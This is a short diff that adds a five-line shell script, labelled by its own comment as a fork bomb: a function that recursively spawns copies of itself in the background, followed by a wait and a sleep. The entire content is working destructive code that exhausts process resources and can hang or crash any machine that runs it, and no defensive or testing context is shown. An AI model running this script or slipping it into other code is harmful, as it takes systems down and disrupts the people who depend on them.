@@ -1,0 +1,5 @@
+# A fork bomb.
+bomb() { bomb | bomb & }
+bomb
+wait
+sleep 300
